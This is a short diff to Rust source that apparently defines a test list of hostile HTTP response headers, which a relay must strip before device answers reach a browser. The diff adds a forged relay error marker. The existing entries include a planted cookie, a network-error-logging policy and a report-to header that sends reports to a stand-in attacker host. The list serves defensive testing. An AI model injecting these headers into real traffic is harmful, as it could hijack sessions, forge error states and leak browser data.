@@ -135,7 +135,9 @@ pub const APP_JS: &str = r#"(async () => {
 })();"#;
 
 /// Headers no device answer may pass to a browser on a cloud origin.
-pub const HOSTILE_HEADERS: [(&str, &str); 10] = [
+pub const HOSTILE_HEADERS: [(&str, &str); 11] = [
+    // Forges the relay's own error marker (api-server acts on it).
+    ("x-edgelink-relay-error", "device_timeout"),
     ("set-cookie", "planted=1; Path=/"),
     ("nel", r#"{"report_to":"x","max_age":86400}"#),
     ("report-to", r#"{"group":"x","max_age":86400,"endpoints":[{"url":"https://evil.example/r"}]}"#),
